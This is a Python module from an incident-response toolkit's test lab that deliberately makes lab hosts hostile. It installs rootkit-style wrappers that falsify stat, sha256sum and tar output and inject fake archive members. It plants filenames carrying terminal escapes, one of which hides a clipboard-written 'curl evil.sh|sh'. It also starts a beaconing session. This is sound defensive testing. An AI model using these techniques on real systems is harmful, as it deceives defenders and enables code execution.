"""Hostile lab hosts: chosen hosts misbehave for real, over real sshd (``irkit lab up --hostile HOST=KIND``).

The compromised host of the threat model controls every byte it returns. Here that is done the way a
rootkit would: inside the host's own mount namespace a tmpfs is mounted on ``/usr/local`` and
``/usr/local/sbin`` gets wrappers for ``stat``, ``sha256sum`` and ``tar``. irkit runs its triage
commands with ``PATH=/usr/local/sbin:...`` (the distribution's system-only PATH), so the wrappers
answer instead of the real tools; they run the real tool and lie only about what their kind plants.
Files are planted in the host's writable layer. Nothing changes on the controller or on other hosts;
a reimage (fresh layers, fresh mount namespace) removes it all, as it would on a real machine.

Kinds (combine with commas):

``bigfile``
    A sparse 64 GiB ``/var/log/syslog.1`` (collected by ``linux.logs.auth_syslog``); ``stat`` claims
    4096 bytes and ``sha256sum`` answers at once, so the controller asks for it and the real ``tar``
    then streams a 64 GiB member.
``tarbomb``
    ``tar`` adds members nobody asked for (``etc/shadow-not-requested``, a non-canonical
    ``etc/./hostname``) and sends the first member twice with other content.
``trickle``
    ``tar`` sends its (real) archive 256 bytes per second: a slow-loris inside any idle timeout.
``mtime``
    Files in ``/etc/cron.d`` for which ``stat`` reports ``inf``, ``nan`` and ``1e300`` modification
    times, a negative size and a non-numeric uid.
``names``
    Files in ``/etc/cron.d`` whose names carry terminal escapes (OSC 52 clipboard write, erase line,
    fake green text), a newline and bytes that are not UTF-8; ``sha256sum`` lies about them so the
    controller reports them (a HASH MISMATCH error on the console; on this host every second,
    single-read copy "mismatches" too).
``session``
    A live outbound intruder session: a beacon on the host writes a line every 0.1 s over one TCP
    connection to a collector on the next lab host (by slot), port 8443
    (:mod:`ir_toolkit.lab.intruder`). It is open before irkit acts; isolation must end it.
"""

from __future__ import annotations

import json
from typing import Any

from ir_toolkit.errors import InputError

KINDS = ("bigfile", "tarbomb", "trickle", "mtime", "names", "session")
BIG_PATH = "/var/log/syslog.1"
BIG_SIZE = 64 << 30
BIG_CLAIMED = 4096
MTIME_FILES = {
    "/etc/cron.d/irkit-hostile-inf": {"mtime": "inf"},
    "/etc/cron.d/irkit-hostile-nan": {"mtime": "nan"},
    "/etc/cron.d/irkit-hostile-huge": {"mtime": "1e300"},
    "/etc/cron.d/irkit-hostile-negsize": {"size": "-5"},
    "/etc/cron.d/irkit-hostile-baduid": {"uid": "root"},
}
# names (as bytes, hex-encoded in the config): escapes, a newline, latin-1
EVIL_NAMES = [
    b"/etc/cron.d/x\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07",
    b"/etc/cron.d/y\x1b[2K\r\x1b[32mall hosts collected OK\x1b[0m",
    b"/etc/cron.d/line\nbreak",
    b"/etc/cron.d/caf\xe9",
]

# ---------------------------------------------------------------------------- on the host
# Runs inside the host (all its namespaces, its root) as root, config JSON on stdin.
SETUP = r'''
import json, os, subprocess, sys
cfg = json.load(sys.stdin)
local = "/usr/local"
marker = local + "/.irkit-hostile"
if not os.path.exists(marker):
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=8m,mode=0755", "irklab-hostile", local], check=True)
for d in ("sbin", "bin", "lib"):
    os.makedirs(os.path.join(local, d), exist_ok=True)
with open(marker, "w") as fh:
    json.dump(cfg, fh)
for name, text in cfg["shims"].items():
    path = os.path.join(local, "sbin", name)
    with open(path, "w") as fh:
        fh.write(text)
    os.chmod(path, 0o755)
kinds = set(cfg["kinds"])
if "bigfile" in kinds:
    with open(cfg["big_path"], "ab") as fh:
        fh.truncate(cfg["big_size"])
if "mtime" in kinds:
    for path in cfg["mtime_files"]:
        with open(path, "w") as fh:
            fh.write("# irkit lab: a file the host lies about\n")
if "names" in kinds:
    for raw in cfg["evil_names"]:
        path = bytes.fromhex(raw)
        fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644)
        os.write(fd, b"* * * * * root true\n")
        os.close(fd)
print("hostile:", ",".join(sorted(kinds)))
'''

_SHIM_HEAD = r'''#!/usr/bin/python3 -S
# irkit lab hostile wrapper (ir_toolkit/lab/hostile.py): runs the real tool, lies as configured.
import json, os, subprocess, sys
CFG = json.load(open("/usr/local/.irkit-hostile"))
KINDS = set(CFG["kinds"])
REAL = "/usr/bin/" + os.path.basename(sys.argv[0])
def fs(path):
    return os.fsencode(path) if isinstance(path, str) else path
'''

STAT_SHIM = _SHIM_HEAD + r'''
args = sys.argv[1:]
if "--printf" not in args:
    os.execv(REAL, [REAL] + args)
proc = subprocess.run([REAL] + args, stdout=subprocess.PIPE)
out = proc.stdout
fields = out.split(b"\0")
tail = fields.pop() if fields and fields[-1] == b"" else None
lies = {}
if "bigfile" in KINDS:
    lies[fs(CFG["big_path"])] = {"size": str(CFG["big_claimed"])}
if "mtime" in KINDS:
    for path, lie in CFG["mtime_files"].items():
        lies[fs(path)] = lie
n = 15
for i in range(0, len(fields) - n + 1, n):
    lie = lies.get(fields[i + 1])
    if not lie:
        continue
    if "size" in lie:
        fields[i + 2] = lie["size"].encode()
    if "mtime" in lie:
        fields[i + 3] = fields[i + 4] = lie["mtime"].encode()
    if "uid" in lie:
        fields[i + 7] = lie["uid"].encode()
sys.stdout.buffer.write(b"\0".join(fields) + (b"\0" if tail is not None else b""))
sys.exit(proc.returncode)
'''

SHA_SHIM = _SHIM_HEAD + r'''
args = sys.argv[1:]
lying = set()
if "bigfile" in KINDS:
    lying.add(fs(CFG["big_path"]))
if "names" in KINDS:
    lying.update(bytes.fromhex(h) for h in CFG["evil_names"])
paths = [a for a in args if not a.startswith("-")] if "--" not in args else args[args.index("--") + 1:]
opts = args[:len(args) - len(paths)]
if not paths and "names" in KINDS:  # the retry's `tee | sha256sum`: lie too, so the mismatch stands
    while sys.stdin.buffer.read(1 << 20):
        pass
    sys.stdout.write("0" * 64 + "  -\n")
    sys.exit(0)
real = [p for p in paths if fs(p) not in lying]
fake = [p for p in paths if fs(p) in lying]
code = 0
if real or not fake:
    code = subprocess.run([REAL] + opts + real).returncode
sep = b"\0" if "-z" in opts else b"\n"
for p in fake:
    sys.stdout.buffer.write(b"0" * 64 + b"  " + fs(p) + sep)
sys.stdout.flush()
sys.exit(code)
'''

TAR_SHIM = _SHIM_HEAD + r'''
import tarfile, time, io
args = sys.argv[1:]
if "--create" not in args or not ({"tarbomb", "trickle"} & KINDS):
    os.execv(REAL, [REAL] + args)
proc = subprocess.Popen([REAL] + args, stdout=subprocess.PIPE)
out = sys.stdout.buffer
if "tarbomb" in KINDS:
    src = tarfile.open(fileobj=proc.stdout, mode="r|")
    dst = tarfile.open(fileobj=out, mode="w|", format=tarfile.PAX_FORMAT)
    first = True
    for member in src:
        dst.addfile(member, src.extractfile(member) if member.isreg() else None)  # streamed, never held
        if first and member.isreg():
            first = False
            for name, payload in (("etc/shadow-not-requested", b"root:$6$stolen:19000::::::\n"),
                                  ("etc/./hostname", b"not-this-host\n")):
                extra = tarfile.TarInfo(name)
                extra.size, extra.mtime = len(payload), member.mtime
                dst.addfile(extra, io.BytesIO(payload))
            twin = tarfile.TarInfo(member.name)
            evil = b"replaced by the host\n"
            twin.size, twin.mtime = len(evil), member.mtime
            dst.addfile(twin, io.BytesIO(evil))
    dst.close()
    out.flush()
    sys.exit(proc.wait())
while True:  # trickle
    chunk = proc.stdout.read(256)
    if not chunk:
        break
    out.write(chunk)
    out.flush()
    time.sleep(1.0)
sys.exit(proc.wait())
'''


def parse_hostile(values: tuple[str, ...] | list[str]) -> dict[str, list[str]]:
    """``["web01=bigfile,trickle", ...]`` -> ``{"web01": ["bigfile", "trickle"]}`` (unknown kinds: InputError)."""
    result: dict[str, list[str]] = {}
    for value in values:
        host, sep, kinds = value.partition("=")
        if not sep or not host or not kinds:
            raise InputError(f"--hostile {value!r}: use HOST=KIND[,KIND] (kinds: {', '.join(KINDS)})")
        for kind in kinds.split(","):
            if kind not in KINDS:
                raise InputError(f"--hostile {value!r}: unknown kind {kind!r} (kinds: {', '.join(KINDS)})")
            result.setdefault(host, [])
            if kind not in result[host]:
                result[host].append(kind)
    return result


def host_config(kinds: list[str]) -> dict[str, Any]:
    return {
        "kinds": sorted(kinds),
        "big_path": BIG_PATH, "big_size": BIG_SIZE, "big_claimed": BIG_CLAIMED,
        "mtime_files": MTIME_FILES,
        "evil_names": [n.hex() for n in EVIL_NAMES],
        "shims": {"stat": STAT_SHIM, "sha256sum": SHA_SHIM, "tar": TAR_SHIM},
    }


def make_hostile(lab: Any, host: str, kinds: list[str]) -> str:
    """Make the running lab host ``host`` misbehave as ``kinds`` (idempotent); returns the host's answer."""
    notes = []
    if "session" in kinds:
        notes.append(_start_session(lab, host))
        kinds = [k for k in kinds if k != "session"]
        if not kinds:
            return notes[0]
    proc = lab.exec(host, ["/usr/bin/python3", "-S", "-c", SETUP], input=json.dumps(host_config(kinds)).encode(),
                    timeout=60)
    if proc.returncode != 0:
        err = proc.stderr.decode("utf-8", "replace").strip().splitlines()
        raise InputError(f"lab host {host}: cannot make it hostile: {err[-1] if err else proc.returncode}")
    return "; ".join([*notes, proc.stdout.decode("utf-8", "replace").strip()])


def _start_session(lab: Any, host: str) -> str:
    """The ``session`` kind: a beacon on ``host`` streaming to a collector on the next lab host."""
    from ir_toolkit.lab.intruder import DEFAULT_PORT, start_live_session

    hosts = sorted(lab.state().hosts.values(), key=lambda h: h.slot)
    if len(hosts) < 2:
        raise InputError("--hostile session: the lab needs a second host for the session's other end")
    index = next(i for i, h in enumerate(hosts) if h.name == host)
    peer = hosts[(index + 1) % len(hosts)]
    from ir_toolkit.lab.intruder import LiveSession

    if LiveSession(lab, host, peer.name, peer.address).beacon_running():
        return f"live session to {peer.name} ({peer.address}:{DEFAULT_PORT}) already running"
    try:
        start_live_session(lab, host, peer.name, peer.address, port=DEFAULT_PORT)
    except RuntimeError as exc:
        raise InputError(f"lab host {host}: {exc}") from None
    return f"live session to {peer.name} ({peer.address}:{DEFAULT_PORT}) open"
